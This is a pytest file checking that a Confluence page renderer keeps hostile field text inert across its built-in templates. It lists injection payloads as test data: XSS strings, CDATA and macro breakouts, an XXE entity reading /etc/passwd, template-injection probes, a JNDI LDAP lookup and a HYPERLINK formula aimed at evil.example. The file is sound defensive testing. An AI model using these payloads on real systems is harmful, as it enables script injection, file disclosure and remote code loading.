"""Hostile texts in every place that a person may write to, through every built-in template."""

from dataclasses import replace
from pathlib import Path

import pytest
import world
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from pmsync.core.model import Snapshot
from pmsync.core.rules import Product
from pmsync.pages.render import render_pages
from pmsync.pages.storage import check, parse
from pmsync.pages.storage.tree import name_of
from pmsync.pages.text import one_line, presentable
from pmsync.sandbox.confluence import storage as peer

BUILT_IN = Path(__file__).parents[3] / "templates"
PLAIN = "harmless"

ATTACKS = [
    # out of a literal block
    "]]>",
    "]]]]><![CDATA[>",
    ']]></ac:plain-text-body></ac:structured-macro><ac:structured-macro ac:name="html">',
    "<![CDATA[<b>x</b>]]>",
    # macros, links, pictures
    '<ac:structured-macro ac:name="include"><ac:parameter ac:name="">Salaries</ac:parameter>',
    '</ac:parameter><ac:parameter ac:name="colour">Red',
    '<ac:link><ri:user ri:account-id="1"/></ac:link>',
    '<ac:image><ri:url ri:value="http://evil.example/t.png"/></ac:image>',
    "{html}<script>alert(1)</script>{html} {include:Secrets} !http://evil.example/x.png!",
    "[~accountid:5b10ac8d82e05b22cc7d4ef5] @all",
    # markup and addresses
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "</p></td></tr></tbody></table><h1>Owned</h1>",
    "javascript:alert(1) JaVa\tScript:alert(1) &#106;avascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD4= //evil.example https://good@evil.example/",
    # XML
    '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;',
    "&lt; &amp;amp; &nbsp; &bogus; &#0; &#x202e;",
    "nul\x00 vt\x0b esc\x1b[2J del\x7f",
    "lone\ud800 non\ufffe\uffff\U0001fffe",
    "<!-- --><?php ?>",
    "<div>" * 1_000,
    "x" * 1_000_000,
    # what the eye gets
    "invoice\u202egnp.exe \u2066hidden\u2069",
    "ze\u200bro\ufeffwidth \u0410BC-1",
    "Z" + "\u0341\u0340\u0342" * 40,
    "دفع ABC عربي 123",
    # templates in the data
    "{{ 7*7 }} {% for i in range(10**9) %} {# gone? #} {{ ''.__class__.__mro__ }}",
    "%s%n {0.__class__} ${jndi:ldap://evil.example}",
    # spreadsheets and logs
    '=HYPERLINK("http://evil.example","x") +1 -1 @SUM(1)',
    "ok\nERROR fake line\r\nnext\u2028and next",
]


def _hostile(product: Product, text: str) -> tuple[Product, Snapshot]:
    """The world with *text* as every summary, status, version, field text, class and name."""
    known = world.with_text(world.snapshot(), text)
    classed = replace(
        known,
        issues=tuple(
            replace(issue, values={**issue.values, world.INPUTS["class"]: text})
            if world.INPUTS["class"] in issue.values
            else issue
            for issue in known.issues
        ),
    )
    inputs = {**product.inputs, "class": replace(product.inputs["class"], classes=(text,))}
    return replace(product, name=text, inputs=inputs), classed


def _bodies(text: str) -> dict[str, tuple[str, str]]:
    product, known = _hostile(world.product(), text)
    backlog = world.backlog(product, known)
    reasons = dict.fromkeys(backlog.reasons, text)
    backlog = replace(backlog, reasons=reasons)
    made = render_pages(product, known, backlog, templates=[BUILT_IN])
    return {page.page: (page.title, page.body) for page in made}


def _shape(body: str) -> list[str]:
    return [name_of(element) for element in parse(body).iter()]


@pytest.fixture(scope="module")
def harmless() -> dict[str, list[str]]:
    """The elements of every page, in order, when all texts are plain."""
    return {page: _shape(body) for page, (_, body) in _bodies(PLAIN).items()}


@pytest.mark.parametrize("text", ATTACKS, ids=range(len(ATTACKS)))
def test_a_text_stays_a_text(text: str, harmless: dict[str, list[str]]) -> None:
    """The page parses, has the same elements as ever, and the text reads back as cleaned."""
    made = _bodies(text)
    shown = presentable(one_line(text))
    assert made.keys() == harmless.keys()
    for page, (title, body) in made.items():
        assert check(body) == ()
        assert _shape(body) == harmless[page]
        read = "".join(parse(body).itertext())
        assert shown in read
        assert len(title) <= 255
        assert title.isprintable() or not title.isascii()


@pytest.mark.parametrize("text", ATTACKS, ids=range(len(ATTACKS)))
def test_another_reader_of_storage_format_agrees(text: str) -> None:
    """The sandbox, which shares no code with the pages, takes every one of them."""
    for _, body in _bodies(text).values():
        assert peer.save(body, lambda: "00000000-0000-0000-0000-000000000000")


@given(st.text(st.characters(codec=None), min_size=1, max_size=40))
@settings(max_examples=25, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_any_text_at_all_leaves_the_page_whole(text: str) -> None:
    """What nobody thought of is tried too."""
    for _, body in _bodies(text).values():
        assert check(body) == ()


def test_a_homoglyph_key_links_to_itself_and_nowhere_else() -> None:
    """A key is quoted into its address, whatever letters it is made of."""
    known = world.snapshot()
    odd = 'SHOP-1/../../x?y="><b>'
    issues = tuple(
        replace(issue, key=odd) if issue.key == "SHOP-3" else issue for issue in known.issues
    )
    product = world.product()
    snapshot = replace(known, issues=issues)
    made = render_pages(product, snapshot, world.backlog(product, snapshot), templates=[BUILT_IN])
    links = [
        str(link.get("href"))
        for page in made
        for link in parse(page.body).iter("a")
        if "".join(link.itertext()) == odd
    ]
    assert links
    assert set(links) == {"https://acme.example/browse/SHOP-1%2F..%2F..%2Fx%3Fy%3D%22%3E%3Cb%3E"}
